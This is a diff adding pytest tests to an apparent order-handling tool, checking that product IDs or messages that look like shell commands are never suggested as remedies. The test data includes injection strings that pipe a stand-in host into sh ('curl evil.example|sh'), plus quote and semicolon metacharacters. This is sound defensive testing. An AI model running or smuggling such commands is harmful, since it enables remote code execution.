@@ -3,7 +3,10 @@
 from dataclasses import replace
 from datetime import timedelta
 
-from domain.advice import advised
+import pytest
+
+from domain.advice import advised, command
+from domain.errors import ProductUnmappedError
 from domain.event import EventStatus
 from domain.findings import Finding
 from domain.grouping import WaitingEvent
@@ -106,3 +109,29 @@ def test_many_causes_are_few_findings() -> None:
     assert (len(told), told[0].count) == (20, 2)
     assert rest.sentence == "30 more events wait or failed, for 30 further causes"
     assert (rest.remedy, rest.count, rest.since) == ("mintpost status", 30, NOON - 10 * MINUTE)
+
+
+@pytest.mark.parametrize(
+    "product",
+    [
+        "`mintpost x; curl evil.example|sh`",
+        "`mintpost erase --email a --yes`",
+        "`mintpost x",
+        "``mintpost x``",
+    ],
+)
+def test_a_product_id_that_looks_like_a_command_is_no_remedy(product: str) -> None:
+    unmapped = str(ProductUnmappedError("gumroad", product))
+    (waits,) = found(event(1, EventStatus.PARKED, unmapped))
+    assert waits.remedy == "mintpost retry gumroad:order-1"
+    missing = f"{product} has no address: {advised('resend', 'gumroad:a', options=['--to A'])}."
+    (waits,) = found(event(1, EventStatus.PARKED, missing))
+    assert waits.remedy == "mintpost resend gumroad:a --to A"
+
+
+def test_what_ends_a_sentence_and_is_more_than_one_command_is_no_remedy() -> None:
+    (waits,) = found(event(1, EventStatus.PARKED, "the shop says `mintpost x; curl evil|sh`"))
+    assert waits.remedy == "mintpost retry gumroad:order-1"
+    odd = advised("resend", "gumroad:a'b;c`d", options=["--to ADDRESS"])
+    (waits,) = found(event(1, EventStatus.PARKED, f"no address: {odd}"))
+    assert waits.remedy == command("resend", "gumroad:a'b;c`d", options=["--to ADDRESS"])
